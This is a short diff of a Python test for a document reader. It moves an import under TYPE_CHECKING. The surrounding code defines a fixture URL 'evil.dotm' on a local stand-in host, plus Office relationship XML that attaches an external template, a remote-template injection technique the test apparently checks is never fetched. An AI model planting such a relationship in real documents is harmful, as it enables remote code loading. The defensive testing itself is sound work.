@@ -6,8 +6,12 @@ Must: nothing is fetched or run, the file's own text is read, no formula counts 
 
 from __future__ import annotations
 
-from tests.hostile.documents.conftest import Reader
+from typing import TYPE_CHECKING
+
 from tests.hostile.documents.packing import RELATIONS, docx, xlsx
+
+if TYPE_CHECKING:
+    from tests.hostile.documents.conftest import Reader
 
 OUT = "http://127.0.0.2:9/evil.dotm"
 TEMPLATE = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="{RELATIONS}/attachedTemplate" Target="{OUT}" TargetMode="External"/></Relationships>'
